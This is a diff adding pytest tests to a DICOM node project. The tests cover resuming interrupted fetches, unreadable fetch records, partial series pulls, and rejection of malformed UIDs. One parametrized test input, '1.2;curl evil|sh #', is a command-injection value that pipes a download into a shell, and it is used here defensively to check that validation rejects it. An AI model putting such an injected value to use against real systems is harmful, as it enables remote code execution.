@@ -11,14 +11,16 @@ from pathlib import Path
 
 import msgspec
 import pytest
-from pydicom import dcmread
+from pydicom import Dataset, dcmread
 from sqlalchemy import func, select
 
 from carina.config import DicomDestination, DicomSource, NodeSettings, Settings
 from carina.database import INSTANCE
 from carina.errors import DeliveryFailed
 from carina.jobs.places import open_node
+from carina.receive.fetch import found_series
 from carina.receive.moves import FETCHING
+from carina.receive.pull import Pulled
 from carina.receive.store import InstanceStore
 from carina.receive.unfinished import RESUMED_AT_MOST, FetchResumer, FetchWish, written_down
 from carina.synth.phantom import chest_phantom
@@ -152,3 +154,40 @@ def test_a_note_that_can_not_be_read_is_said_and_holds_up_no_other(
     (store.folder / FETCHING / "1.json").write_text(text, encoding="latin-1")
     assert FetchResumer(store).round() == 1
     assert notes(store.folder) == [] and "can't be read: ask for it again" in caplog.text
+
+
+def test_a_record_that_the_node_may_not_open_is_said_once_and_holds_up_no_other(
+    tmp_path: Path, caplog: pytest.LogCaptureFixture
+) -> None:
+    store = store_at(tmp_path / "node", free_port())
+    killed(store.folder, msgspec.structs.replace(WISH, peer="gone"))
+    (store.folder / FETCHING / "0.json").mkdir()
+    resumer = FetchResumer(store)
+    assert [resumer.round(), resumer.round()] == [1, 0]
+    assert caplog.text.count("no record of a fetch that the node may use") == 1
+    assert notes(store.folder) == [".json"], "the one that can't be opened"
+
+
+def test_a_part_of_a_series_is_no_end_of_its_fetch(
+    tmp_path: Path, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    words = "series 1.2.3: 3 of 8 instances; refused: disk full"
+    monkeypatch.setattr("carina.receive.unfinished.pull", lambda *_, **__: iter([Pulled(words, is_whole=False)]))
+    store = store_at(tmp_path / "node", free_port())
+    killed(store.folder, WISH)
+    for _ in range(RESUMED_AT_MOST + 1):
+        assert FetchResumer(store).round() == 1
+    assert caplog.text.count(words) == RESUMED_AT_MOST and f"ask again: {WISH.command}" in caplog.text
+    assert notes(store.folder) == []
+
+
+@pytest.mark.parametrize("uid", ["1.2;curl evil|sh #", "1.2\n9", ""])
+def test_what_a_pacs_calls_a_uid_and_is_none_is_not_found(uid: str) -> None:
+    study, series = Dataset(), Dataset()
+    study.StudyInstanceUID, series.SeriesInstanceUID, series.Modality = "1.2", "1.2.3", "CT"
+    assert found_series(study, series) is not None
+    for dataset, keyword in ((study, "StudyInstanceUID"), (series, "SeriesInstanceUID")):
+        before = getattr(dataset, keyword)
+        setattr(dataset, keyword, uid)
+        assert found_series(study, series) is None
+        setattr(dataset, keyword, before)
